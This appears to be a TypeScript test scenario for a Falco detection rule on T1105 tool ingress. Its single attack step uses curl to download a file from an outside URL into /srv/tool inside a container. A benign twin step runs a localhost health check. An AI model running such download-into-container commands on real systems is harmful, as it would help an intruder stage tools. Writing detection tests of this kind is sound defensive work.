import { container, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'download-tool-in-container',
  story: 'In a container an intruder downloads his tools into a file.',
  technique: 'T1105',
  place: container(),
  falco: ['Launch Ingress Remote File Copy Tools in Container'],
  lanner: [],
  steps: [run('curl', { with: ['-s', '-o', '/srv/tool', 'https://example.org/tool'] })],
  twin: {
    because: 'a health check asks for a page and keeps nothing.',
    steps: [run('curl', { with: ['-s', 'http://localhost/health'] })],
  },
});
